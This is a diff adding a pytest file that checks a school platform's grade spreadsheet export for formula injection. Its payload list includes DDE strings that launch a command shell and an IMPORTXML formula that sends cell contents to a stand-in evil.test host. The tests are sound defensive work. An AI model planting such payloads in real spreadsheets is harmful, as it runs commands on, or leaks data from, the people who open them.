@@ -1,0 +1,64 @@
+"""What is downloaded and opened in a spreadsheet holds text, numbers and nothing that acts."""
+
+import io
+import re
+import zipfile
+
+import openpyxl
+import pytest
+
+from backend.core import db
+from tests.dialects.lms.probing import ROUTES
+from tests.tasks import Class, a_class, hand_in
+
+ACTING = (
+    '=HYPERLINK("http://evil.test","click")',
+    "+1+cmd|' /C calc'!A0",
+    "-2+3",
+    "@SUM(1+1)*cmd|' /C calc'!A0",
+    "\t=1+1",
+    "http://evil.test/",
+    "mailto:evil@evil.test",
+    "{=1+1}",
+    '=IMPORTXML(CONCAT("http://evil.test/",A1),"//a")',
+)
+
+
+async def filled(group: Class, text: str) -> bytes:
+    """A grading sheet in which every text that a person chose is this one."""
+    work = await hand_in(group)
+    answer = await group.teacher.http.put(f"/api/v1/submissions/{work}/grade", json={"grade": 7, "feedback": text})
+    assert answer.status_code in (200, 201), answer.text
+    await db.statement("UPDATE account SET name = $2, email = $2 WHERE id = $1", group.student.id, text)
+    await db.statement("UPDATE profile SET nim = $2 WHERE account_id = $1", group.student.id, text[:32])
+    await db.statement("UPDATE assignment SET title = $2 WHERE id = $1", group.task.id, text)
+    await db.statement("UPDATE meeting SET title = $1", text)
+    answer = await group.teacher.http.get(f"/api/v1/assignments/{group.task.uuid}/grades/excel")
+    assert answer.status_code == 200
+    assert re.fullmatch(r'attachment; filename="[a-z0-9_.-]+"', answer.headers["content-disposition"])
+    assert answer.headers["x-content-type-options"] == "nosniff"
+    return answer.content
+
+
+@pytest.mark.parametrize("text", ACTING)
+async def test_no_text_becomes_a_formula_or_a_link(a_person, text: str):
+    content = await filled(await a_class(a_person), text)
+    with zipfile.ZipFile(io.BytesIO(content)) as parts:
+        names = parts.namelist()
+        sheets = "".join(parts.read(name).decode() for name in names if name.startswith("xl/worksheets/"))
+        relations = "".join(parts.read(name).decode() for name in names if name.endswith(".rels"))
+    assert "<f>" not in sheets
+    assert "<f " not in sheets
+    assert "<hyperlink" not in sheets
+    assert 'TargetMode="External"' not in relations
+    assert not [name for name in names if "externalLink" in name or "vba" in name or "ddeLink" in name]
+    cells = [cell for row in openpyxl.load_workbook(io.BytesIO(content)).active.iter_rows(min_row=2) for cell in row]
+    assert {cell.data_type for cell in cells} <= {"s", "n", "inlineStr"}
+    assert sum(cell.value == text for cell in cells) >= 2
+
+
+def test_every_export_is_known():
+    """A new one belongs into the test above."""
+    assert [route for route in ROUTES if re.search(r"excel|export|csv|xlsx|download", route)] == [
+        "GET /api/v1/assignments/{}/grades/excel"
+    ]
